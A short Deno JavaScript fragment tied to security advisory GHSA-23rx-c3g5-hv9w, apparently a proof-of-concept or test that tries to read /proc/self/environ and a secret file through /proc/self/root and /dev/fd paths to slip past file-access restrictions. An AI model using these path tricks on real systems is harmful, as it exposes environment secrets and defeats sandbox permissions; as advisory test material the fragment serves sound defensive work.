// GHSA-23rx-c3g5-hv9w
// Special files such as /proc/self/environ and /proc/self/mem give more than a file.
for (const path of ['/proc/self/environ', '/proc/self/root' + GOAL.secret, '/dev/fd/0/../..' + GOAL.secret]) { try { note(Deno.readTextFileSync(path)); } catch {} }
return found;
